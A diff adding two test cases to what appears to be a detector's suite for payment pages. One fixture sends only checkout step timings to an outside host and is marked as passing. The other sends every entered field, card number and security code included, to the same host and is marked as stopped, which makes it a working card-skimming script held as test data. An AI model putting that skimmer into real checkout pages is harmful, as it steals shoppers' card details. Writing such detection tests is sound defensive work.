@@ -134,5 +134,39 @@ def contact():
 `,
       },
     ],
+    [
+      'steps of a payment, without what is entered',
+      'passed',
+      {
+        'templates/pay.html': `<form id="pay" method="post" action="/pay"><input name="number" autocomplete="cc-number"><input name="code" autocomplete="cc-csc"></form>
+<script>
+var form = document.getElementById('pay');
+function step(name) {
+  var data = new URLSearchParams({ step: name, t: Math.round(performance.now()) });
+  navigator.sendBeacon('https://px.shopsteps.zz/c', data);
+}
+form.addEventListener('submit', function () { step('submit'); });
+form.addEventListener('input', function () { document.getElementById('sum').textContent = new FormData(form).get('amount'); });
+</script>
+`,
+      },
+    ],
+    [
+      'steps of a payment, with all that is entered',
+      'stopped',
+      {
+        'templates/pay.html': `<form id="pay" method="post" action="/pay"><input name="number" autocomplete="cc-number"><input name="code" autocomplete="cc-csc"></form>
+<script>
+var form = document.getElementById('pay');
+function step(name) {
+  var data = new URLSearchParams(new FormData(form));
+  navigator.sendBeacon('https://px.shopsteps.zz/c', data);
+}
+form.addEventListener('submit', function () { step('submit'); });
+form.addEventListener('input', function () { document.getElementById('sum').textContent = new FormData(form).get('amount'); });
+</script>
+`,
+      },
+    ],
   ]);
 });
